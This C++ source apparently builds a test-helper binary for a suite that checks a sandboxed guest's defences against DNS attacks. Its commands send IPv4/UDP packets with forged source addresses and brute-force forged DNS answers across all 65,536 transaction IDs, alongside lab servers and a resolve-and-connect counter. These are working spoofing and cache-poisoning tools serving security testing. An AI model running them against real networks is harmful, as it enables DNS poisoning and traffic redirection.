// egr-dns-attack: the DNS attacks of tests/priv/dns_attack_test.cc and the
// lab servers they need, in one small binary the 6.1 guest carries (it has no
// python3).  Every DNS message here is built by hand on purpose: an attacker
// sends bytes, not library calls.  Each command prints JSON lines.
//
//   spoof-query SRC SPORT DST DPORT NAME   one A query in a hand-built IPv4+UDP
//                                          packet on an IPPROTO_RAW socket
//                                          (IP_HDRINCL), from any source
//   spoof-bytes SRC SPORT DST DPORT HEX    the same packet around the payload
//                                          HEX (a message captured elsewhere)
//   raw-query DST DPORT NAME               one A query on a raw IPPROTO_UDP
//                                          socket (the kernel's IP header)
//   forge SRC SPORT DST DPORT NAME ADDR    A answers for NAME carrying ADDR, with
//                                          every ID 0-65535, spoofed from SRC:SPORT
//   hold-server ADDR PORT NAME ANSWER      a UDP DNS server that holds every
//                                          query for NAME (a slow upstream): one
//                                          line per query ("from" = the asker's
//                                          address and port), the answer sent
//                                          at SIGUSR1 (or, should no signal come, after 300 s)
//   tcp-count ADDR PORT                    a TCP listener: "listening", then a
//                                          line per accepted connection
//   rounds PREFIX SUFFIX FIRST COUNT PORT  COUNT rounds of getaddrinfo(PREFIX<i>SUFFIX)
//                                          (glibc, AF_INET) then connect() at
//                                          once to its first address; one summary
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<uint8_t>;

void Put16(Bytes& b, uint16_t v) {
  b.push_back(static_cast<uint8_t>(v >> 8));
  b.push_back(static_cast<uint8_t>(v & 0xff));
}
void Put32(Bytes& b, uint32_t v) {
  Put16(b, static_cast<uint16_t>(v >> 16));
  Put16(b, static_cast<uint16_t>(v & 0xffff));
}

bool PutName(Bytes& b, const std::string& name) {
  size_t at = 0;
  while (at < name.size()) {
    size_t dot = name.find('.', at);
    if (dot == std::string::npos) dot = name.size();
    const size_t len = dot - at;
    if (len == 0 || len > 63) return false;
    b.push_back(static_cast<uint8_t>(len));
    b.insert(b.end(), name.begin() + static_cast<long>(at), name.begin() + static_cast<long>(dot));
    at = dot + 1;
  }
  b.push_back(0);
  return true;
}

// Header, one question NAME A IN.  `answer`: QR/AA set, one A record.
Bytes Message(uint16_t id, const std::string& name, bool answer, in_addr addr = {}) {
  Bytes b;
  Put16(b, id);
  Put16(b, answer ? 0x8580 : 0x0100);  // answer: QR AA RD RA; query: RD
  Put16(b, 1);
  Put16(b, answer ? 1 : 0);
  Put16(b, 0);
  Put16(b, 0);
  PutName(b, name);
  Put16(b, 1);  // A
  Put16(b, 1);  // IN
  if (answer) {
    Put16(b, 0xc00c);  // the question's name
    Put16(b, 1);
    Put16(b, 1);
    Put32(b, 300);
    Put16(b, 4);
    const auto* a = reinterpret_cast<const uint8_t*>(&addr.s_addr);
    b.insert(b.end(), a, a + 4);
  }
  return b;
}

// IPv4 + UDP around `payload`; the kernel fills the IP checksum and length
// (raw(7)); UDP checksum 0 (none, valid over IPv4).
Bytes Datagram(in_addr src, uint16_t sport, in_addr dst, uint16_t dport, const Bytes& payload) {
  Bytes b(28, 0);
  b[0] = 0x45;
  b[8] = 64;
  b[9] = IPPROTO_UDP;
  std::memcpy(&b[12], &src.s_addr, 4);
  std::memcpy(&b[16], &dst.s_addr, 4);
  const uint16_t ulen = static_cast<uint16_t>(8 + payload.size());
  b[2] = static_cast<uint8_t>((20 + ulen) >> 8);
  b[3] = static_cast<uint8_t>((20 + ulen) & 0xff);
  b[20] = static_cast<uint8_t>(sport >> 8);
  b[21] = static_cast<uint8_t>(sport & 0xff);
  b[22] = static_cast<uint8_t>(dport >> 8);
  b[23] = static_cast<uint8_t>(dport & 0xff);
  b[24] = static_cast<uint8_t>(ulen >> 8);
  b[25] = static_cast<uint8_t>(ulen & 0xff);
  b.insert(b.end(), payload.begin(), payload.end());
  return b;
}

int Usage() {
  std::fprintf(stderr,
               "usage: egr-dns-attack spoof-query SRC SPORT DST DPORT NAME | spoof-bytes SRC SPORT DST DPORT HEX |\n"
               "       raw-query DST DPORT NAME |\n"
               "       forge SRC SPORT DST DPORT NAME ADDR | hold-server ADDR PORT NAME ANSWER |\n"
               "       tcp-count ADDR PORT | rounds PREFIX SUFFIX FIRST COUNT PORT\n");
  return 2;
}

bool Addr4(const char* text, in_addr* out) { return inet_pton(AF_INET, text, out) == 1; }
bool Port(const char* text, uint16_t* out) {
  char* end = nullptr;
  long v = std::strtol(text, &end, 10);
  if (*end != '\0' || v < 0 || v > 65535) return false;
  *out = static_cast<uint16_t>(v);
  return true;
}

void Emit(const std::string& op, const std::string& rest) {
  std::printf("{\"op\":\"%s\"%s}\n", op.c_str(), rest.c_str());
  std::fflush(stdout);
}
std::string Err(const char* stage, int e) {
  return std::string(",\"result\":\"error\",\"stage\":\"") + stage + "\",\"errno\":\"" + strerrorname_np(e) + "\"";
}

sockaddr_in To(in_addr a, uint16_t port) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_addr = a;
  sa.sin_port = htons(port);
  return sa;
}

// Sends each of `packets` on an IPPROTO_RAW socket; reports how many the
// kernel accepted ("socket":"created" once socket() succeeded, so a refused
// socket is never mistaken for a defended destination).
int SendRaw(const std::string& op, in_addr dst, const std::vector<Bytes>& packets) {
  int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) {
    Emit(op, Err("socket", errno));
    return 0;
  }
  sockaddr_in sa = To(dst, 0);
  size_t sent = 0;
  int first_errno = 0;
  for (const Bytes& p : packets) {
    if (sendto(fd, p.data(), p.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) == static_cast<ssize_t>(p.size())) {
      ++sent;
    } else if (!first_errno) {
      first_errno = errno;
    }
  }
  close(fd);
  std::string rest = ",\"socket\":\"created\",\"send_ret\":\"returned\",\"sent\":" + std::to_string(sent) +
                     ",\"tried\":" + std::to_string(packets.size());
  if (first_errno) rest += std::string(",\"send_errno\":\"") + strerrorname_np(first_errno) + "\"";
  Emit(op, rest);
  return 0;
}

int SpoofQuery(char** a) {
  in_addr src{}, dst{};
  uint16_t sport = 0, dport = 0;
  if (!Addr4(a[0], &src) || !Port(a[1], &sport) || !Addr4(a[2], &dst) || !Port(a[3], &dport)) return Usage();
  return SendRaw("spoof-query", dst, {Datagram(src, sport, dst, dport, Message(0x5151, a[4], false))});
}

bool Hex(const char* text, Bytes* out) {
  auto nibble = [](char c) {
    return c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : c >= 'A' && c <= 'F' ? c - 'A' + 10 : -1;
  };
  const size_t n = std::strlen(text);
  if (n == 0 || n % 2 != 0) return false;
  for (size_t i = 0; i < n; i += 2) {
    const int hi = nibble(text[i]), lo = nibble(text[i + 1]);
    if (hi < 0 || lo < 0) return false;
    out->push_back(static_cast<uint8_t>(hi << 4 | lo));
  }
  return true;
}

int SpoofBytes(char** a) {
  in_addr src{}, dst{};
  uint16_t sport = 0, dport = 0;
  Bytes payload;
  if (!Addr4(a[0], &src) || !Port(a[1], &sport) || !Addr4(a[2], &dst) || !Port(a[3], &dport) || !Hex(a[4], &payload)) {
    return Usage();
  }
  return SendRaw("spoof-bytes", dst, {Datagram(src, sport, dst, dport, payload)});
}

int RawQuery(char** a) {
  in_addr dst{};
  uint16_t dport = 0;
  if (!Addr4(a[0], &dst) || !Port(a[1], &dport)) return Usage();
  int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
  if (fd < 0) {
    Emit("raw-query", Err("socket", errno));
    return 0;
  }
  Bytes udp(8, 0);
  const Bytes q = Message(0x5252, a[2], false);
  udp[0] = 0xc3;  // source port 50000
  udp[1] = 0x50;
  udp[2] = static_cast<uint8_t>(dport >> 8);
  udp[3] = static_cast<uint8_t>(dport & 0xff);
  udp[4] = static_cast<uint8_t>((8 + q.size()) >> 8);
  udp[5] = static_cast<uint8_t>((8 + q.size()) & 0xff);
  udp.insert(udp.end(), q.begin(), q.end());
  sockaddr_in sa = To(dst, 0);
  ssize_t n = sendto(fd, udp.data(), udp.size(), 0, reinterpret_cast<sockaddr*>(&sa), sizeof(sa));
  const int e = errno;
  close(fd);
  std::string rest = ",\"socket\":\"created\",\"send_ret\":\"returned\"";
  Emit("raw-query", n < 0 ? rest + Err("send", e) : rest + ",\"result\":\"ok\"");
  return 0;
}

int Forge(char** a) {
  in_addr src{}, dst{}, forged{};
  uint16_t sport = 0, dport = 0;
  if (!Addr4(a[0], &src) || !Port(a[1], &sport) || !Addr4(a[2], &dst) || !Port(a[3], &dport) ||
      !Addr4(a[5], &forged)) {
    return Usage();
  }
  std::vector<Bytes> packets;
  packets.reserve(65536);
  for (uint32_t id = 0; id <= 0xffff; ++id) {
    packets.push_back(Datagram(src, sport, dst, dport, Message(static_cast<uint16_t>(id), a[4], true, forged)));
  }
  return SendRaw("forge", dst, packets);
}

volatile sig_atomic_t g_release = 0;
void OnRelease(int) { g_release = 1; }

int HoldServer(char** a) {
  in_addr addr{}, answer{};
  uint16_t port = 0;
  if (!Addr4(a[0], &addr) || !Port(a[1], &port) || !Addr4(a[3], &answer)) return Usage();
  const std::string name = a[2];
  struct sigaction sa {};
  sa.sa_handler = OnRelease;
  sigaction(SIGUSR1, &sa, nullptr);
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  sockaddr_in local = To(addr, port);
  if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0) {
    Emit("hold-server", Err("bind", errno));
    return 1;
  }
  Emit("hold-server", ",\"state\":\"listening\"");
  struct Held {
    sockaddr_in from;
    uint16_t id;
  };
  std::vector<Held> held;
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(300);
  for (;;) {
    if (g_release || std::chrono::steady_clock::now() > deadline) {
      for (const Held& h : held) {
        Bytes m = Message(h.id, name, true, answer);
        sendto(fd, m.data(), m.size(), 0, reinterpret_cast<const sockaddr*>(&h.from), sizeof(h.from));
      }
      Emit("hold-server", ",\"released\":" + std::to_string(held.size()));
      held.clear();
      g_release = 0;
    }
    pollfd p{fd, POLLIN, 0};
    if (poll(&p, 1, 100) <= 0) continue;  // EINTR at SIGUSR1 lands here too
    uint8_t buf[1500];
    sockaddr_in from{};
    socklen_t fl = sizeof(from);
    ssize_t n = recvfrom(fd, buf, sizeof(buf), 0, reinterpret_cast<sockaddr*>(&from), &fl);
    if (n < 12) continue;
    // The name as asked (labels joined by dots), to report it.
    std::string asked;
    for (size_t at = 12; at < static_cast<size_t>(n) && buf[at] != 0 && buf[at] < 64;) {
      const size_t len = buf[at];
      if (at + 1 + len > static_cast<size_t>(n)) break;
      if (!asked.empty()) asked += '.';
      asked.append(reinterpret_cast<char*>(buf + at + 1), len);
      at += 1 + len;
    }
    char ip[INET_ADDRSTRLEN] = "";
    inet_ntop(AF_INET, &from.sin_addr, ip, sizeof(ip));
    const uint16_t id = static_cast<uint16_t>(buf[0] << 8 | buf[1]);
    Emit("hold-server", std::string(",\"query\":\"") + asked + "\",\"from\":\"" + ip + "\",\"port\":" +
                            std::to_string(ntohs(from.sin_port)) + ",\"id\":" + std::to_string(id));
    if (strcasecmp(asked.c_str(), name.c_str()) == 0) {
      held.push_back({from, id});
    }
  }
}

int TcpCount(char** a) {
  in_addr addr{};
  uint16_t port = 0;
  if (!Addr4(a[0], &addr) || !Port(a[1], &port)) return Usage();
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int one = 1;
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in local = To(addr, port);
  if (fd < 0 || bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof(local)) != 0 || listen(fd, 4096) != 0) {
    Emit("tcp-count", Err("listen", errno));
    return 1;
  }
  Emit("tcp-count", ",\"state\":\"listening\"");
  for (uint64_t n = 1;; ++n) {
    int c = accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
    if (c < 0) continue;
    close(c);
    Emit("tcp-count", ",\"accepted\":" + std::to_string(n));
  }
}

// A counter of this network namespace's /proc/net/snmp or /proc/net/netstat:
// `section` ("Tcp", "TcpExt") has a line of names and a line of values.
long long ProcNetCounter(const char* file, const std::string& section, const std::string& field) {
  FILE* f = std::fopen(file, "re");
  if (!f) return -1;
  char line[8192];
  std::vector<std::string> names;
  long long found = -1;
  while (std::fgets(line, sizeof(line), f)) {
    std::string l(line);
    if (l.rfind(section + ":", 0) != 0) continue;
    std::vector<std::string> words;
    for (size_t at = section.size() + 1; at < l.size();) {
      size_t end = l.find_first_of(" \n", at);
      if (end == std::string::npos) end = l.size();
      if (end > at) words.push_back(l.substr(at, end - at));
      at = end + 1;
    }
    if (names.empty()) {
      names = words;
      continue;
    }
    for (size_t i = 0; i < names.size() && i < words.size(); ++i) {
      if (names[i] == field) found = std::atoll(words[i].c_str());
    }
    break;
  }
  std::fclose(f);
  return found;
}

int Rounds(char** a) {
  const std::string prefix = a[0], suffix = a[1];
  const long first = std::strtol(a[2], nullptr, 10), count = std::strtol(a[3], nullptr, 10);
  uint16_t port = 0;
  if (count <= 0 || first < 0 || !Port(a[4], &port)) return Usage();
  long resolved = 0, resolve_failed = 0, connected = 0, refused = 0, other = 0;
  double max_ms = 0;
  std::string first_error;
  const long long syn_before = ProcNetCounter("/proc/net/netstat", "TcpExt", "TCPSynRetrans");
  const long long retrans_before = ProcNetCounter("/proc/net/snmp", "Tcp", "RetransSegs");
  for (long i = first; i < first + count; ++i) {
    const std::string name = prefix + std::to_string(i) + suffix;
    addrinfo hints{};
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    addrinfo* res = nullptr;
    const auto t0 = std::chrono::steady_clock::now();
    const int rc = getaddrinfo(name.c_str(), nullptr, &hints, &res);
    if (rc != 0 || res == nullptr) {
      ++resolve_failed;
      if (first_error.empty()) first_error = name + ": " + gai_strerror(rc);
      continue;
    }
    ++resolved;
    sockaddr_in sa = *reinterpret_cast<sockaddr_in*>(res->ai_addr);
    freeaddrinfo(res);
    sa.sin_port = htons(port);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const int c = connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa));
    const int e = errno;
    close(fd);
    const double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
    if (ms > max_ms) max_ms = ms;
    if (c == 0) {
      ++connected;
    } else {
      (e == EPERM || e == EACCES || e == ECONNREFUSED ? refused : other) += 1;
      if (first_error.empty()) first_error = name + ": connect " + strerrorname_np(e);
    }
  }
  const long long syn_after = ProcNetCounter("/proc/net/netstat", "TcpExt", "TCPSynRetrans");
  const long long retrans_after = ProcNetCounter("/proc/net/snmp", "Tcp", "RetransSegs");
  char buf[768];
  std::snprintf(buf, sizeof(buf),
                ",\"rounds\":%ld,\"resolved\":%ld,\"resolve_failed\":%ld,\"connected\":%ld,\"refused\":%ld,"
                "\"other\":%ld,\"max_round_ms\":%.1f,\"syn_retrans\":%lld,\"retrans_segs\":%lld,"
                "\"counters_read\":%s,\"first_error\":\"%s\"",
                count, resolved, resolve_failed, connected, refused, other, max_ms, syn_after - syn_before,
                retrans_after - retrans_before,
                syn_before >= 0 && syn_after >= 0 && retrans_before >= 0 && retrans_after >= 0 ? "true" : "false",
                first_error.c_str());
  Emit("rounds", buf);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return Usage();
  const std::string cmd = argv[1];
  const int n = argc - 2;
  char** a = argv + 2;
  if (cmd == "spoof-query" && n == 5) return SpoofQuery(a);
  if (cmd == "spoof-bytes" && n == 5) return SpoofBytes(a);
  if (cmd == "raw-query" && n == 3) return RawQuery(a);
  if (cmd == "forge" && n == 6) return Forge(a);
  if (cmd == "hold-server" && n == 4) return HoldServer(a);
  if (cmd == "tcp-count" && n == 2) return TcpCount(a);
  if (cmd == "rounds" && n == 5) return Rounds(a);
  return Usage();
}
